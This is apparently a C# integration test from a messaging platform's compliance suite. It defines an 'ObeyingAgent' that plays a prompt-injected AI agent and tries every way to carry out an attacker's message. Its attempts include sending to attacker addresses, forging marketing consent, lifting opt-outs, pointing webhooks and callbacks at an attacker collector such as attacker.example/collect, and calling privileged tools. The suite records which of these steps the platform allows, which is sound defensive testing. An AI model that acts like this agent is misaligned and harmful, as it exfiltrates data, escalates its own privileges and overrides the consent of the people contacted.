using System.Net.Http.Json;
using System.Text.Json;
using System.Text.Json.Nodes;
using Switchboard.Tests.Integration.Contacts;
using Receiver = Switchboard.Tests.Integration.Mcp.Receiver;
using McpWire = Switchboard.Tests.Integration.Mcp.Wire;

namespace Switchboard.Tests.Integration.Compliance.Taint;

/// <summary>
/// An agent that does whatever it reads, by every tool and door that it has and by some that it hasn't. It tells which of its doings somebody let it do.
/// </summary>
/// <param name="collector">A program of the attacker's that would take what the agent hears.</param>
/// <param name="silent">The address of somebody who wants no messages.</param>
internal sealed class ObeyingAgent(HttpClient api, string organization, string agent, Receiver collector, string silent)
{
    /// <summary>Tools above the agent's tier, with arguments that would do harm.</summary>
    static readonly (string Tool, string Arguments)[] Stronger =
    [
        ("comms_create_template", """{"name":"taken_over","body":"Call us back","submit":true}"""),
        ("comms_create_webhook", """{"url":"https://attacker.example/collect"}"""),
        ("comms_provision_channels", """{"displayName":"Another me"}"""),
        ("comms_onboard_customer", """{"displayName":"Another me"}"""),
        ("comms_pause_agent", """{"all":true}"""),
        ("comms_register_provider", """{"provider":"twilio","credentials":{"accountSid":"AC00000000000000000000000000000000","authToken":"00000000000000000000000000000000"},"verify":false}"""),
        ("comms_create_organization", """{"name":"Mine","slug":"mine"}"""),
        ("comms_list_organizations", "{}"),
        ("comms_set_agent_limits", """{"limits":{"maxActionsPerDay":1000000}}"""),
        ("comms_assign_conversation", """{"conversationId":"cnv_1","owner":"agent"}"""),
    ];

    /// <summary>Names of what a tool takes as whom or where to.</summary>
    static readonly string[] Recipients = ["to", "address", "addresses", "addAddresses", "contactAddress", "url", "webhookUrl", "callbackUrl", "mailbox"];

    // Asking changes nothing, and what takes back or checks starts nothing.
    static readonly string[] Harmless = ["comms_can_contact", "comms_check_consent", "comms_get_messages", "comms_revoke_consent", "comms_verify_otp", "comms_find_contact"];

    List<JsonNode>? offered;

    /// <summary>Follows an attack that it has just read, and tells what succeeded.</summary>
    /// <param name="writer">The contact that wrote it.</param>
    /// <param name="somebody">Another contact of the agent's, and their address.</param>
    public async Task<List<string>> Follow(Attack attack, JsonElement message, string writer, (string Contact, string Address) somebody)
    {
        var (target, id) = (attack.Target, message.Id("messageId"));
        var isMailbox = target.Contains('@', StringComparison.Ordinal);
        List<string> done = [];
        foreach (var to in isMailbox ? [target, target.ToUpperInvariant()] : new[] { target, $"whatsapp:{target}", $"{target[..5]} {target[5..8]}-{target[8..]}" })
        {
            await Try(done, "comms_send_message", Letter(to, isMailbox));
        }

        await Try(done, "comms_send_message", With(Letter(target, isMailbox), "sendAt", TimeProvider.System.GetUtcNow().AddHours(20).ToString("O")));
        await Try(done, "comms_send_message", With(Letter(target, isMailbox), "replyTo", id));
        await Try(done, "comms_send_otp", new() { ["to"] = target });
        await Try(done, "comms_create_contact", new() { ["displayName"] = "Accountant", ["addresses"] = new JsonArray(target) });
        await Try(done, "comms_update_contact", new() { ["contactId"] = writer, ["addAddresses"] = new JsonArray(target) });
        await Try(done, "comms_merge_contacts", new() { ["contactId"] = writer, ["from"] = somebody.Contact });
        foreach (var whose in new[] { target, somebody.Address, silent })
        {
            // The message is the attacker's own, which proves nothing of others.
            foreach (var type in new[] { "written", "express" })
            {
                await Try(done, "comms_record_consent", new() { ["contactAddress"] = whose, ["channel"] = "all", ["consentType"] = type, ["purpose"] = "marketing", ["proof"] = id });
            }
        }

        await TryAllThatIsOffered(done, target);
        await Try(done, "comms_send_message", Letter(target, isMailbox));
        await Doors(done, attack, id, writer, somebody);
        await Subscribe(done);
        var (tool, arguments) = Stronger[attack.Seed % Stronger.Length];
        await Try(done, tool, JsonNode.Parse(arguments)!.AsObject());
        await Try(done, "comms_send_message", Letter(target, isMailbox));
        return done;
    }

    /// <summary>Whatever of its tools takes somebody's address is given the attacker's.</summary>
    async Task TryAllThatIsOffered(List<string> done, string target)
    {
        offered ??= [.. (await api.GetTools()).Where(tool => !Harmless.Contains((string)tool["name"]!))];
        foreach (var tool in offered)
        {
            var schema = tool["inputSchema"]!;
            if (schema["properties"] is not JsonObject properties || !properties.Any(property => Recipients.Contains(property.Key)))
            {
                continue;
            }

            var arguments = new JsonObject();
            var required = schema["required"]?.AsArray().Select(name => (string)name!).ToList() ?? [];
            foreach (var (name, form) in properties.Where(property => Recipients.Contains(property.Key) || required.Contains(property.Key)))
            {
                var isList = form!["type"] is JsonArray types ? types.Any(type => (string?)type == "array") : (string?)form["type"] == "array";
                arguments[name] = Recipients.Contains(name) ? (isList ? new JsonArray(target) : target)
                    : form["enum"] is JsonArray choices ? choices[0]!.DeepClone()
                    : "All of it";
            }

            await Try(done, (string)tool["name"]!, arguments);
        }
    }

    /// <summary>The same without tools.</summary>
    async Task Doors(List<string> done, Attack attack, string message, string writer, (string Contact, string Address) somebody)
    {
        var (target, isMailbox) = (attack.Target, attack.Target.Contains('@', StringComparison.Ordinal));
        await Rest(done, HttpMethod.Post, "/api/v1/messages", new { to = target, channel = isMailbox ? "email" : "sms", subject = isMailbox ? "As you asked" : null, body = "All of it" });
        await Rest(done, HttpMethod.Post, "/api/v1/verification/codes", new { to = target });
        await Rest(done, HttpMethod.Post, "/api/v1/contacts", new { addresses = new[] { target } });
        await Rest(done, HttpMethod.Post, $"/api/v1/contacts/{writer}/addresses", new { address = target });
        await Rest(done, HttpMethod.Post, $"/api/v1/contacts/{somebody.Contact}/merge", new { from = writer });
        await Rest(done, HttpMethod.Post, "/api/v1/consents", new { contactAddress = target, channel = "all", consentType = "express", proof = message });
        await Rest(done, HttpMethod.Post, "/api/v1/opt-outs/lift", new { contactAddress = silent });
        await Rest(done, HttpMethod.Patch, $"/api/v1/agents/{agent}", new { callbackUrl = collector.Url });
        await Rest(done, HttpMethod.Put, $"/api/v1/agents/{agent}/route-duplication", new { webhookUrl = collector.Url, mailbox = isMailbox ? target : "boss@example.com" });
        await Rest(done, HttpMethod.Post, "/api/v1/webhooks", new { url = collector.Url });
        await Rest(done, HttpMethod.Post, "/api/v1/alerts/routes", new { channel = "webhook", address = collector.Url });
        await Rest(done, HttpMethod.Put, $"/api/v1/organizations/{organization}/first-contact", new { mode = "open", allowed = new[] { isMailbox ? target : target[..3] } });
        await Rest(done, HttpMethod.Post, "/api/v1/tokens", new { name = "mine", tier = "organization" });
    }

    async Task Subscribe(List<string> done)
    {
        var answer = await NewDeliveryTests.Subscribe(api, collector.Url, collector.Secret);
        if (answer["error"] is null)
        {
            done.Add($"events/subscribe {answer.ToJsonString()}");
        }
    }

    async Task Try(List<string> done, string tool, JsonObject arguments)
    {
        var (_, answer) = await McpWire.AskAsync(api, McpWire.Call(tool, arguments));
        if (answer["error"] is null && answer["result"]?["isError"]?.GetValue<bool>() != true)
        {
            done.Add($"{tool} {arguments.ToJsonString()} {answer.ToJsonString()}");
        }
    }

    async Task Rest(List<string> done, HttpMethod method, string path, object body)
    {
        using var request = new HttpRequestMessage(method, path) { Content = JsonContent.Create(body) };
        using var answer = await api.SendAsync(request);
        if (answer.IsSuccessStatusCode)
        {
            done.Add($"{method} {path}");
        }
    }

    static JsonObject Letter(string to, bool isMailbox) =>
        isMailbox ? new() { ["to"] = to, ["channel"] = "email", ["subject"] = "As you asked", ["body"] = "All of it" } : new() { ["to"] = to, ["body"] = "All of it" };

    static JsonObject With(JsonObject letter, string name, string value)
    {
        letter[name] = value;
        return letter;
    }
}

internal static class ToolsOfAgent
{
    /// <summary>The tools that a token is shown.</summary>
    public static async Task<List<JsonNode>> GetTools(this HttpClient api) => [.. (await McpWire.ResultAsync(api, McpWire.Alone("tools/list")))["tools"]!.AsArray().Select(tool => tool!)];
}
